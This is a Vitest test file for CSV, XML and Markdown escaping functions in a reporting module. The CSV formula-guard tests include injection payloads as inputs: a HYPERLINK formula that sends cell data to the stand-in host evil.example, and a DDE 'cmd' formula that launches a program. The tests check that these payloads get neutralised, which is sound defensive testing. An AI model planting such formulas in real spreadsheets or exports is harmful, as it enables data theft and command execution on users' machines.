import { describe, expect, it } from 'vitest';
import {
  csvCell,
  csvField,
  guardFormula,
  markdownCode,
  markdownText,
  stripInvalidXml,
  xmlAttr,
  xmlText,
} from '../../src/reporters/escape.js';

describe('guardFormula (OWASP CSV injection)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['-A1', "'-A1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['＝1+1', "'＝1+1"],
    ['－1+1', "'－1+1"],
    ['-', "'-"],
    ['-12.5 元', "'-12.5 元"],
  ])('guards %j', (input, expected) => {
    expect(guardFormula(input)).toBe(expected);
  });

  it.each([
    '-12.5',
    '+3',
    '-0.5',
    '-.5',
    '-1e5',
    '+2.5E-3',
    '12',
    '户主',
    '',
    ' =1+1',
    'a=1',
    '4510**********0223',
  ])('leaves %j alone (a plain number or not a formula)', (input) => {
    expect(guardFormula(input)).toBe(input);
  });
});

describe('csvField (RFC 4180)', () => {
  it('quotes only where needed and doubles quotes', () => {
    expect(csvField('田峰乡')).toBe('田峰乡');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('说“是”')).toBe('说“是”');
    expect(csvField('say "yes"')).toBe('"say ""yes"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\r')).toBe('"cr\r"');
  });

  it('csvCell guards first, then quotes; null is empty; numbers as written', () => {
    expect(csvCell('=1,2')).toBe('"\'=1,2"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(38)).toBe('38');
    expect(csvCell(-12.5)).toBe('-12.5');
  });
});

describe('XML escaping', () => {
  it('strips characters XML 1.0 forbids, keeps tab, LF, CR and astral characters', () => {
    expect(stripInvalidXml('a\u0000b\u0001c\u0008d\u000Be\u000Cf\u001Fg')).toBe('abcdefg');
    expect(stripInvalidXml('\uFFFE\uFFFFx')).toBe('x');
    expect(stripInvalidXml('lone \uD800 high, lone \uDC00 low')).toBe('lone  high, lone  low');
    expect(stripInvalidXml('\t\n\r𠀀😀')).toBe('\t\n\r𠀀😀');
  });

  it('escapes markup in text and attributes', () => {
    expect(xmlText('a < b && c > d ]]> \r')).toBe('a &lt; b &amp;&amp; c &gt; d ]]&gt; &#13;');
    expect(xmlAttr(`"q" 'a' <t>\n\t`)).toBe('&quot;q&quot; &apos;a&apos; &lt;t&gt;&#10;&#9;');
    expect(xmlAttr('x\u0007y')).toBe('xy');
  });
});

describe('Markdown escaping', () => {
  it('keeps masked IDs literal and table cells whole', () => {
    expect(markdownText('证件号码“4510**********0223”')).toBe(
      '证件号码“4510\\*\\*\\*\\*\\*\\*\\*\\*\\*\\*0223”',
    );
    expect(markdownText('a|b')).toBe('a\\|b');
    expect(markdownText('<script>&')).toBe('\\<script\\>\\&');
    expect(markdownText('two\r\nlines\nhere')).toBe('two lines here');
    expect(markdownText('[x](http://e) _y_ `z` ~~w~~ \\')).toBe(
      '\\[x\\](http://e) \\_y\\_ \\`z\\` \\~\\~w\\~\\~ \\\\',
    );
  });

  it('writes safe ids as code and others as escaped text', () => {
    expect(markdownCode('id-number-checksum')).toBe('`id-number-checksum`');
    expect(markdownCode('a`b|c')).toBe('a\\`b\\|c');
  });
});
